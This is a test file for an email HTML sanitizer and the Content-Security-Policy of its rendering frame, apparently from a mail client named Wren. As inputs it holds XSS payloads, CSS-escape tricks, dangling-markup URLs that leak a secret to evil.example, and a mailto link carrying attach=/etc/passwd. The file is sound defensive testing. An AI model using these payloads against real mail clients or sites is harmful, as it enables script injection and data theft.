// @vitest-environment jsdom
// DOMPurify does not support happy-dom (its maintainers say sanitizing there is bypassable),
// so the sanitizer is tested against jsdom, a DOM it supports.
import { describe, expect, it } from 'vitest';
import { sanitizeMailHtml } from '../../../src-renderer/components/HtmlBody/sanitize-mail-html';
import { mailDocument } from '../../../src-renderer/components/HtmlBody/mail-document';

const blocked = (html: string) => sanitizeMailHtml(html, { allowRemote: false });
const permissive = (html: string) => sanitizeMailHtml(html, { allowRemote: true });

describe('sanitizeMailHtml', () => {
  it('removes scripts but keeps the text around them', () => {
    const result = blocked('<p>Hello</p><script>alert(1)</script><p>there</p>');
    expect(result.html).not.toMatch(/<script/i);
    expect(result.html).not.toContain('alert(1)');
    expect(result.html).toContain('<p>Hello</p>');
    expect(result.html).toContain('<p>there</p>');
  });

  it('removes event handler attributes', () => {
    const result = blocked('<img src="data:image/png;base64,AAAA" onerror="alert(1)"><div onclick="x()" onmouseover="y()">hi</div>');
    expect(result.html).not.toMatch(/onerror|onclick|onmouseover/i);
    expect(result.html).toContain('src="data:image/png;base64,AAAA"');
    expect(result.blockedRemote).toBe(false);
  });

  it('blocks remote images and says so', () => {
    const result = blocked('<p>Hi</p><img src="https://tracker.example/pixel.gif" alt="t">');
    expect(result.html).not.toContain('tracker.example');
    expect(result.blockedRemote).toBe(true);
  });

  it('blocks protocol-relative and http images, srcset, background and poster', () => {
    const html =
      '<img src="//cdn.example/a.png"><img srcset="http://x.example/a.png 1x, http://x.example/b.png 2x">' +
      '<table background="http://x.example/bg.png"><tr><td>cell</td></tr></table><video poster="https://x.example/p.png"></video>';
    const result = blocked(html);
    expect(result.html).not.toMatch(/example/);
    expect(result.html).toContain('cell');
    expect(result.blockedRemote).toBe(true);
  });

  it('removes remote url() from style attributes and <style> elements', () => {
    const result = blocked(
      '<style>body { background: url(http://x.example/bg.png) } @import url("https://x.example/more.css");</style>' +
        '<div style="color: red; background-image: url(\'https://x.example/a.png\')">text</div>',
    );
    expect(result.html).not.toContain('x.example');
    expect(result.html).toContain('color: red');
    expect(result.html).toContain('<style>');
    expect(result.blockedRemote).toBe(true);
  });

  it('drops CSS that hides url( behind escapes', () => {
    const result = blocked('<div style="background: \\75 rl(https://x.example/a.png)">t</div>');
    expect(result.html).not.toContain('x.example');
    expect(result.blockedRemote).toBe(true);
  });

  it('keeps data: URLs in styles and images', () => {
    const result = blocked('<div style="background: url(data:image/png;base64,AAAA)">t</div>');
    expect(result.html).toContain('url(data:image/png;base64,AAAA)');
    expect(result.blockedRemote).toBe(false);
  });

  it('removes forms, inputs, iframes, objects, embeds, base, link and meta refresh', () => {
    const html =
      '<form action="https://evil.example"><input name="pw"><button>Go</button></form>' +
      '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">' +
      '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">' +
      '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>kept</p>';
    const result = blocked(html);
    expect(result.html).not.toMatch(/<(form|input|button|iframe|object|embed|base|link|meta)\b/i);
    expect(result.html).not.toContain('evil.example');
    expect(result.html).toContain('<p>kept</p>');
  });

  it('removes javascript: links and opens the others in a new window', () => {
    const result = blocked('<a href="javascript:alert(1)">bad</a><a href="https://example.org/">good</a>');
    expect(result.html).not.toContain('javascript:');
    expect(result.html).toContain('href="https://example.org/"');
    expect(result.html).toContain('target="_blank"');
    expect(result.html).toContain('rel="noopener noreferrer"');
  });

  it('keeps a link’s text but not its address when that address resolves against Wren’s own page', () => {
    const html =
      '<a href="#part-2">fragment</a><a href="api/attachment?messageId=1&amp;partId=2">relative</a>' +
      '<a href="/api/export">rooted</a><a href="http:api/export">scheme, no slashes</a><a href=" ">blank</a>' +
      '<area href="https:next.html"><a href="https://example.org/page#part-2">absolute</a><a href="//example.org/x">no scheme</a>';
    const links = new DOMParser().parseFromString(blocked(html).html, 'text/html').querySelectorAll('a, area');
    expect([...links].map((link) => link.getAttribute('href'))).toEqual([null, null, null, null, null, null, 'https://example.org/page#part-2', '//example.org/x']);
    expect([...links].map((link) => link.textContent).slice(0, 5)).toEqual(['fragment', 'relative', 'rooted', 'scheme, no slashes', 'blank']);
  });

  it('keeps https images when remote content is allowed', () => {
    const result = permissive('<img src="https://images.example/logo.png"><div style="background:url(https://images.example/bg.png)">x</div>');
    expect(result.html).toContain('src="https://images.example/logo.png"');
    expect(result.html).toContain('https://images.example/bg.png');
    expect(result.blockedRemote).toBe(false);
  });

  it('still removes scripts and handlers when remote content is allowed', () => {
    const result = permissive('<img src="https://images.example/a.png" onload="steal()"><script>steal()</script>');
    expect(result.html).not.toContain('steal');
  });
});

describe('sanitizeMailHtml against dangling markup and loads that can never happen', () => {
  // An unterminated attribute swallows the rest of the message: after "Load remote content" it
  // would be sent to the sender's server inside the URL.
  const SECRET = 'Your reset code is 93145. <b>Do not share it</b>.\n"Quoted reply"';

  it('drops an img src that swallowed the following markup', () => {
    const result = permissive(`<img src="https://evil.example/?leak=<p>${SECRET}</p><p>end</p>">`);
    expect(result.html).not.toContain('evil.example');
  });

  it('drops remote URLs holding a newline, < or a quote, in src, srcset, background and CSS', () => {
    const hostile = [
      '<img src="https://evil.example/a\nb.png">',
      "<img src=\"https://evil.example/a'b.png\">",
      '<img srcset="https://evil.example/a.png?x=<i>secret</i> 1x">',
      '<img srcset="https://evil.example/a.png?x=\nsecret 2x">',
      '<table background="https://evil.example/?<td>secret"><tr><td>cell</td></tr></table>',
      '<div style="background: url(&quot;https://evil.example/?x=\nsecret&quot;)">t</div>',
      '<div style="background: url(https://evil.example/?x=&lt;b&gt;secret)">t</div>',
      "<style>p { background: url('https://evil.example/?x=\"secret') }</style>",
    ];
    for (const html of hostile) {
      const result = permissive(html);
      expect(result.html, html).not.toContain('evil.example');
      expect(blocked(html).blockedRemote, html).toBe(false);
    }
  });

  it('drops a CSS url( left open to the end of the style', () => {
    const result = permissive(`<div style="background:url('https://evil.example/?x=secret">t</div>`);
    expect(result.html).not.toContain('evil.example');
  });

  it('still keeps an ordinary https image with a query string', () => {
    const result = permissive('<img src="https://images.example/a.png?w=600&amp;h=200">');
    expect(result.html).toContain('src="https://images.example/a.png?w=600&amp;h=200"');
  });

  it('removes remote fonts, which the frame never loads, without offering to load them', () => {
    const css = '<style>@font-face { font-family: X; src: url(https://fonts.example/x.woff2) format("woff2"); } p { color: red }</style><p>t</p>';
    for (const result of [blocked(css), permissive(css)]) {
      expect(result.html).not.toContain('fonts.example');
      expect(result.html).toContain('color: red');
      expect(result.blockedRemote).toBe(false);
    }
  });

  it('removes audio and video sources, which the frame never loads, without offering to load them', () => {
    const html = '<video src="https://media.example/v.mp4"></video><audio><source src="https://media.example/a.mp3"><track src="https://media.example/t.vtt"></audio><p>t</p>';
    for (const result of [blocked(html), permissive(html)]) {
      expect(result.html).not.toContain('media.example');
      expect(result.blockedRemote).toBe(false);
    }
  });

  it('shows no video or audio player (an empty black box, the frame never loads media), keeping their fallback words and link', () => {
    const html =
      '<p>before</p><video poster="https://media.example/p.png" controls width="300"><source src="https://media.example/v.mp4" type="video/mp4">' +
      '<a href="https://media.example/watch">Watch it on the web</a></video><audio src="https://media.example/a.mp3" controls>no audio</audio>' +
      '<picture><source srcset="data:image/png;base64,AAAA"><img src="data:image/png;base64,BBBB" alt="pic"></picture><p>after</p>';
    for (const result of [blocked(html), permissive(html)]) {
      expect(result.html).not.toMatch(/<video|<audio|<track|poster|media\.example\/(p\.png|v\.mp4|a\.mp3)/i);
      expect(result.html).toContain('<a href="https://media.example/watch" target="_blank" rel="noopener noreferrer">Watch it on the web</a>');
      expect(result.html).toContain('no audio');
      // A <picture> is no player: it stays, with its picture.
      expect(result.html).toContain('<picture><source><img src="data:image/png;base64,BBBB" alt="pic"></picture>');
      expect(result.html).toContain('<p>before</p>');
      expect(result.html).toContain('<p>after</p>');
      // Nothing left would load were remote content allowed, so none is offered.
      expect(result.blockedRemote).toBe(false);
    }
  });

  it('sanitizes the fallback a video or audio holds like the rest of the mail', () => {
    const html = '<video><p onclick="x()">Watch <img src="https://tracker.example/v.gif"><script>alert(1)</script></p><video><b>nested</b></video></video>';
    const result = blocked(html);
    expect(result.html).toBe('<p>Watch <img></p><b>nested</b>');
    expect(result.blockedRemote).toBe(true);
  });

  it('loads http images over https once allowed, since the frame loads nothing else', () => {
    const html = '<img src="http://images.example/logo.png">';
    expect(blocked(html).blockedRemote).toBe(true);
    expect(permissive(html).html).toContain('src="https://images.example/logo.png"');
  });
});

describe('mailDocument', () => {
  it('puts a CSP that forbids scripts and remote loads first in the head', () => {
    const documentHtml = mailDocument('<p>x</p>', false);
    expect(documentHtml).toContain(`content="default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:; form-action 'none'; base-uri 'none'"`);
    expect(documentHtml.indexOf('Content-Security-Policy')).toBeLessThan(documentHtml.indexOf('<p>x</p>'));
    expect(documentHtml).toContain('<base target="_blank">');
  });

  it("forbids form submissions and base URLs, which do not fall back to default-src", () => {
    for (const allowRemote of [false, true]) {
      const documentHtml = mailDocument('<p>x</p>', allowRemote);
      expect(documentHtml).toContain("form-action 'none'");
      expect(documentHtml).toContain("base-uri 'none'");
    }
  });

  it('sends no Referer from the frame, whose origin is Wren’s page', () => {
    expect(mailDocument('', true)).toContain('<meta name="referrer" content="no-referrer">');
  });

  it('widens only img-src to https when remote content is allowed', () => {
    expect(mailDocument('', true)).toContain("img-src data: https:;");
  });

  it('in the web mode, points mailto: links at Wren’s own route, in place; other links still open outside', () => {
    const route = 'http://127.0.0.1:5000/api/mailto';
    const { html } = sanitizeMailHtml('<a href=" mailto:bob@example.test?subject=Hi&amp;attach=/etc/passwd">mail</a><a href="https://example.test/">web</a>', { allowRemote: false, mailtoRoute: route });
    const links = new DOMParser().parseFromString(html, 'text/html').querySelectorAll('a');
    expect(links[0]!.getAttribute('href')).toBe(`${route}?url=${encodeURIComponent('mailto:bob@example.test?subject=Hi&attach=/etc/passwd')}`);
    expect(links[0]!.getAttribute('target')).toBe('_self');
    expect(links[1]!.getAttribute('href')).toBe('https://example.test/');
    expect(links[1]!.getAttribute('target')).toBe('_blank');
    // Electron catches the mailto: popup itself: the link stays as it was.
    expect(blocked('<a href="mailto:bob@example.test">mail</a>').html).toContain('href="mailto:bob@example.test" target="_blank"');
  });
});
